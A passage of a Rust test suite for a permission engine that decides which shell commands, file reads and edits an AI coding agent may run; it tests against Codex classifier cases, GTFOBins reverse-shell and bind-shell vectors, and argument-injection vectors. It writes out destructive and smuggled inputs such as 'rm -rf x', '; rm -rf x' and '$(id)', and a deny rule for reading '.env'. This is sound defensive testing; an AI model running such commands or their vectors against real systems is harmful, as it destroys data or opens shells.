    assert_eq!(p.mode(), Mode::Plan, "tightening counts at once");
}

fn vectors(relative: &str) -> Value {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/vectors").join(relative);
    serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap()
}

#[test]
fn codex_read_only_cases() {
    // expect_auto_allow true: the read-only classifier may run it without asking (we allow).
    // false: it must not be auto-allowed (we ask). No rules at all: defaults only.
    let f = Fixture::new();
    std::fs::write(f.ws().join("file.txt"), "x").unwrap();
    std::fs::write(f.ws().join("Cargo.toml"), "x").unwrap();
    let p = f.policy(rules(&[], &[], &[]), None);
    let file = vectors("codex/codex_is_safe_command_cases.json");
    // Where this policy is stricter than Codex's classifier, and why.
    let stricter = [
        // `grep -R` follows every symlink it meets while recursing, out of the workspace too;
        // `grep -r` (which follows only those named on the command line) is allowed.
        r#"grep -R "Cargo.toml" -n"#,
        r#"grep -R "Cargo.toml" -n || true"#,
    ];
    // Where it is looser, and why: a subshell is followed like the rest of the line (the
    // directories its `cd`s lead to, its redirections), so `(ls)` is judged as `ls`; the effects
    // oracle runs such lines.
    let looser = ["(ls)", "ls || (pwd && echo hi)"];
    // Stricter again: zsh's globs run code (`*(e:…:)`) and its bare `<file` runs a pager, so a
    // zsh script is not judged as bash.
    let zsh = |argv: &[String]| argv[0] == "zsh";
    let mut ran = 0;
    for case in file["cases"].as_array().unwrap() {
        let argv: Vec<String> = serde_json::from_value(case["argv"].clone()).unwrap();
        let last = argv.last().unwrap().as_str();
        let expected = if (case["expect_auto_allow"].as_bool().unwrap()
            && !stricter.contains(&last)
            && !zsh(&argv))
            || looser.contains(&last)
        {
            Allow
        } else {
            Ask
        };
        let d = p.decide(&Subject::Argv(argv.clone()), &f.ws());
        assert_eq!(d.decision, expected, "{argv:?} ({}): {}", case["why"], d.reason);
        ran += 1;
    }
    println!("Codex classifier cases: {ran} run, all as expected");
}

/// GTFOBins' "shell", "command", "reverse-shell" and "bind-shell" snippets of each binary that
/// can run code, each a whole script (setup lines included), except bare invocations.
fn gtfobins_snippets() -> Vec<(String, String)> {
    let file = vectors("gtfobins/gtfobins_unprivileged.json");
    let exec: Vec<String> = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/vectors/gtfobins/binaries_that_can_exec.txt"),
    )
    .unwrap()
    .lines()
    .map(str::to_string)
    .collect();
    let mut out = Vec::new();
    for binary in &exec {
        let Some(entry) = file["binaries"].get(binary) else { continue };
        for category in ["shell", "command", "reverse-shell", "bind-shell"] {
            for snippet in entry.get(category).and_then(Value::as_array).into_iter().flatten() {
                let snippet = snippet.as_str().unwrap().trim();
                if snippet != binary {
                    out.push((binary.clone(), snippet.to_string()));
                }
            }
        }
    }
    out
}

#[test]
fn gtfobins_code_running_arguments_are_never_broadly_allowed() {
    // For each binary that can run code, the broadest rule naming it (`Bash(BINARY *)`) must
    // not auto-allow a GTFOBins invocation of it. Bare invocations (the binary alone, no
    // arguments) are skipped: they carry no code-running argument; stdin is closed when the
    // host runs a command.
    let f = Fixture::new();
    let lines = gtfobins_snippets();
    assert!(lines.len() > 150, "only {} snippet lines found", lines.len());
    for (binary, line) in &lines {
        let p = f.policy(rules(&[&format!("Bash({binary} *)")], &[], &[]), None);
        let d = p.decide(&Subject::Bash(line.clone()), &f.ws());
        assert_ne!(d.decision, Allow, "Bash({binary} *) allowed `{line}`: {}", d.reason);
        // Nor the rule with no specifier at all, except through the wrappers that PERMISSIONS.md
        // says are looked through (`nohup CMD` is judged as CMD, here a placeholder program).
        if !["nohup", "nice", "timeout", "time", "stdbuf", "xargs"].contains(&binary.as_str()) {
            let everything = f.policy(rules(&["Bash"], &[], &[]), None);
            let d = everything.decide(&Subject::Bash(line.clone()), &f.ws());
            assert_ne!(d.decision, Allow, "Bash allowed `{line}`: {}", d.reason);
        }
    }
    println!("GTFOBins: {} code-running invocations, none allowed by a broad rule", lines.len());
}

#[test]
fn argument_injection_vectors_are_never_broadly_allowed() {
    let f = Fixture::new();
    let file = vectors("argument-injection/sonar_argument_injection_vectors.json");
    let mut ran = 0;
    for (name, kinds) in file["binaries"].as_object().unwrap() {
        for entry in kinds.as_object().unwrap().values().flat_map(|v| v.as_array().unwrap()) {
            // The first line is the injection; later lines show how to trigger it.
            let line = entry["code"].as_str().unwrap().lines().next().unwrap();
            let program = line.split_whitespace().next().unwrap();
            let p = f.policy(rules(&[&format!("Bash({program} *)")], &[], &[]), None);
            let d = p.decide(&Subject::Bash(line.to_string()), &f.ws());
            assert_ne!(
                d.decision, Allow,
                "{name}: Bash({program} *) allowed `{line}`: {}",
                d.reason
            );
            ran += 1;
        }
    }
    assert!(ran >= 18);
    println!("argument injection: {ran} vectors, none allowed by a broad rule");
}

#[test]
fn argv_requests_are_judged_like_commands() {
    let f = Fixture::new();
    let p = f.policy(rules(&["Bash(cargo test *)"], &[], &["Bash(rm *)"]), None);
    let argv = |a: &[&str]| {
        p.decide(&Subject::Argv(a.iter().map(|s| s.to_string()).collect()), &f.ws()).decision
    };
    assert_eq!(argv(&["cargo", "test", "--release"]), Allow);
    assert_eq!(argv(&["rm", "-rf", "x"]), Deny);
    // An argument with shell syntax in it is one argument, not a second command.
    assert_eq!(argv(&["cargo", "test", "; rm -rf x"]), Allow);
    assert_eq!(argv(&["bash", "-c", "cargo test && rm -rf x"]), Deny);
    assert_eq!(argv(&["sh", "-c", "cargo test $(id)"]), Ask);
}

#[test]
fn settings_merge_deny_wins() {
    let f = Fixture::new();
    let a = Settings::parse(
        r#"{"permissions":{"allow":["Bash(aws *)"]}}"#,
        Path::new("/u/settings.json"),
    )
    .unwrap();
    let b = Settings::parse(
        r#"{"permissions":{"deny":["Bash(aws *)"]}}"#,
        Path::new("/x/settings.json"),
    )
    .unwrap();
    let p = Policy::new(&f.ws(), vec![(a, Trust::Trusted), (b, Trust::Trusted)], None, vec![]);
    assert_eq!(f.bash(&p, "aws s3 ls"), Deny);
}

mod never_panics {
    use proptest::prelude::*;

    use super::*;

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(512))]

        /// Any command line, argv or path a peer sends gets a decision, never a panic, and a
        /// line with a substitution (not hidden in a comment, single quotes or an escape) is
        /// never allowed.
        #[test]
        fn any_input_gets_a_decision(
            line in "[ -~\n\u{e9}\u{1F600}]{0,80}",
            argv in prop::collection::vec("[ -~]{0,12}", 0..5),
            path in "[ -~]{0,40}",
        ) {
            let f = Fixture::new();
            let p = f.policy(rules(&["Bash"], &[], &["Read(.env)"]), None);
            let d = p.decide(&Subject::Bash(line.clone()), &f.ws());
            let quoted = line.contains(['#', '\'', '\\']);
            if (line.contains("$(") || line.contains('`')) && !quoted {
                prop_assert_ne!(d.decision, Allow, "{}", line);
            }
            let _ = p.decide(&Subject::Argv(argv), &f.ws());
            let _ = p.decide(&Subject::Read(path.clone().into()), &f.ws());
            let _ = p.decide(&Subject::Edit(path.into()), &f.ws());
        }

        /// Any rule a settings file holds is either taken or refused with an error naming the
        /// file, never a panic; and a policy of whatever rules were taken decides anything.
        #[test]
        fn any_rule_is_taken_or_refused(
            lists in prop::collection::vec(prop::collection::vec(rule(), 0..4), 3),
            line in "[ -~]{0,40}",
            path in "[ -~]{0,30}",
        ) {
            let f = Fixture::new();
            let file = f.ws().join(".claude/settings.json");
            let text = serde_json::json!({
                "permissions": { "allow": lists[0], "ask": lists[1], "deny": lists[2] }
            })
            .to_string();
            match Settings::parse(&text, &file) {
                Ok(settings) => {
                    let host_state = f.dir.path().join("host-state");
                    let p = Policy::new(&f.ws(), vec![(settings, Trust::Trusted)], None, vec![host_state]);
                    let _ = p.decide(&Subject::Bash(line.clone()), &f.ws());
                    let argv = line.split(' ').map(String::from).collect();
                    let _ = p.decide(&Subject::Argv(argv), &f.ws());
                    let _ = p.decide(&Subject::Read(path.clone().into()), &f.ws());
                    let _ = p.decide(&Subject::Edit(path.into()), &f.ws());
                }
                Err(e) => prop_assert!(e.to_string().contains("settings.json"), "{}", e),
            }
        }
    }

    /// A rule as a settings file might hold one: a known tool or a made-up name, with or
    /// without a specifier in parentheses, made of anything printable (globs, `:*`, `//`, `~`,
    /// unbalanced parentheses).
    fn rule() -> impl Strategy<Value = String> {
        let tool = prop::sample::select(vec![
            "Bash",
            "Read",
            "Edit",
            "Write",
            "WebFetch",
            "Glob",
            "mcp__srv__tool",
            "mcp__srv",
            "",
            "bash",
            "Read(",
        ]);
        (tool, prop::option::of("[ -~]{0,16}"), any::<bool>()).prop_map(|(tool, spec, close)| {
            match spec {
                Some(spec) => format!("{tool}({spec}{}", if close { ")" } else { "" }),
                None => tool.to_string(),
            }
        })
    }
}
